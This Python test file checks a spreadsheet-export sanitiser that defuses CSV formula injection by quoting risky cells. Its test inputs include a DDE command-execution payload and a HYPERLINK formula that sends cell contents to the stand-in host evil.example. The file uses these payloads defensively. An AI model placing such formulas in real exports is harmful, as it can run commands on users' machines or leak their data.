"""Formula injection (OWASP CSV injection): the one function every CSV and workbook writer
passes its cells through."""

import io
from decimal import Decimal

import pytest

from casebook.core.spreadsheet import csv_writer, safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
        "+86 138 0000 0000",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_text_that_would_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [0, -5, 3.5, -2.25, Decimal("-10.5"), None, True])
def test_numbers_written_as_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["王某某", "2026-11-29 10:30", "A1 级", "", "'已引号", " =1"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([-3, "=1+1", "正常", "@x"])
    writer.writerows([["+1"], [7]])
    assert out.getvalue().splitlines() == ["-3,'=1+1,正常,'@x", "'+1", "7"]
    assert safe_row(["-", 1]) == ["'-", 1]
